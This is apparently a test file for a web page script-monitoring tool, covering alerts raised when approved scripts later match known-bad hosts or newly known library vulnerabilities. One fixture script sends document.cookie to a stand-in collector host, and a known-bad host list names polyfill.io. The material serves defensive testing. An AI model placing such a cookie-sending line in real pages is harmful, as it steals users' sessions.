// Store and run step: a host added to the known-bad list months after a version that names it was approved raises one
// intel.match alert for that version (and one for the approved destination), once; new vulnerabilities in library data
// do the same for an approved library version; the scan chain still verifies.

import assert from 'node:assert/strict';
import { describe, it } from 'vitest';
import { planScan } from '../../src/plan/plan-scan.js';
import { openStore } from '../../src/store/open-store.js';
import { recheckIntel } from '../../src/run/intel-recheck.js';
import { emptyIntel, type Intel } from '../../src/detect/intel/intel.js';
import { buildLibraryIndex } from '../../src/detect/intel/libraries.js';
import { APP, PAGE_URL, pageCapture, script } from '../fixtures/captures.js';
import { tempProject } from '../fixtures/cli.js';
import { testDatabase } from '../fixtures/test-database.js';

const TAG = script({ kind: 'external', url: 'https://cdn.example/tag.js', body: "window.t=1;new Image().src='https://metrics-cdn.example/p.gif?'+document.cookie;" });
const JUNE = { startedAt: '2026-06-01T08:00:00.000Z', finishedAt: '2026-06-01T08:00:02.000Z' };
const withHosts = (hosts: string[]): Intel => ({ ...emptyIntel(), knownBad: { hosts: new Set(hosts), sources: [] } });

describe('intel re-check of what was approved before', () => {
  it('raises one alert per approved version and destination a new known-bad host is found in, once', async () => {
    const store = await openStore(await testDatabase(tempProject('sw-intel-')));
    const capture = pageCapture([APP, TAG], { ...JUNE, requests: [{ url: PAGE_URL, type: 'Document', method: 'GET', frameUrl: null, initiatorUrl: null },
      { url: 'https://metrics-cdn.example/p.gif', type: 'Image', method: 'GET', frameUrl: PAGE_URL, initiatorUrl: TAG.url }] });
    await store.scans.applyPlan(planScan(capture, await store.scans.readBaseline('checkout', 'desktop'), { removalThreshold: 2 }), JUNE.finishedAt);
    await store.alerts.approveAll({ by: 'alice', note: 'June baseline', at: '2026-06-01T10:00:00.000Z' });

    // The first check records the list as it is; nothing changed since the scans that were judged against it.
    assert.deepEqual((await recheckIntel(store, withHosts(['polyfill.io']), new Date('2026-11-30T00:00:00Z'))).raised, []);
    // December: the list learns of the tag's collector.
    const december = await recheckIntel(store, withHosts(['polyfill.io', 'metrics-cdn.example']), new Date('2026-12-01T00:00:00Z'));
    assert.deepEqual(december.knownBadAdded, ['metrics-cdn.example']);
    assert.deepEqual(december.raised.map((a) => [a.type, a.severity, a.subject]).sort(), [['intel.match', 'critical', TAG.url], ['intel.match', 'critical', 'metrics-cdn.example']]);
    const version = december.raised.find((a) => a.subject === TAG.url)!;
    assert.match(version.summary, /tag\.js \(approved 2026-06-01\) names metrics-cdn\.example, now on the known-bad host list/);
    assert.equal(version.details.firstSeen, JUNE.finishedAt);
    assert.equal(version.firstSeen, '2026-12-01T00:00:00.000Z');
    // Once: the same list again, or the next check, raises nothing more.
    assert.deepEqual((await recheckIntel(store, withHosts(['polyfill.io', 'metrics-cdn.example']))).raised, []);
    assert.equal((await store.scans.verify()).ok, true, 'raised later, the alerts are not part of the June scan\'s record');
    await store.close();
  });

  it('raises an alert when the library data learns of a vulnerability of an approved library version', async () => {
    const store = await openStore(await testDatabase(tempProject('sw-intel-lib-')));
    const lib = script({ kind: 'external', url: 'https://cdn.example/widget-1.4.2.min.js', body: '/*! widget v1.4.2 */ window.widget = { version: "1.4.2" };' });
    await store.scans.applyPlan(planScan(pageCapture([lib], JUNE), await store.scans.readBaseline('checkout', 'desktop'), { removalThreshold: 2 }), JUNE.finishedAt);
    await store.alerts.approveAll({ by: 'alice', note: 'June baseline', at: '2026-06-01T10:00:00.000Z' });
    const data = (vulnerabilities: { below: string; identifiers: { summary: string } }[]) => ({
      ...emptyIntel(),
      libraries: buildLibraryIndex({ widget: { vulnerabilities, extractors: { filecontent: ['/\\*! widget v(§§version§§)'] } } } as never),
      librariesDigest: JSON.stringify(vulnerabilities),
    });
    assert.deepEqual((await recheckIntel(store, data([]))).raised, []);
    const raised = (await recheckIntel(store, data([{ below: '1.5.0', identifiers: { summary: 'CVE-2026-0001: widget reads the card field' } }]))).raised;
    assert.equal(raised.length, 1, JSON.stringify(raised.map((a) => a.summary)));
    assert.match(raised[0]!.summary, /widget-1\.4\.2\.min\.js \(approved 2026-06-01\) is widget@1\.4\.2, now known vulnerable: CVE-2026-0001/);
    assert.equal(raised[0]!.severity, 'high');
    await store.close();
  });
});
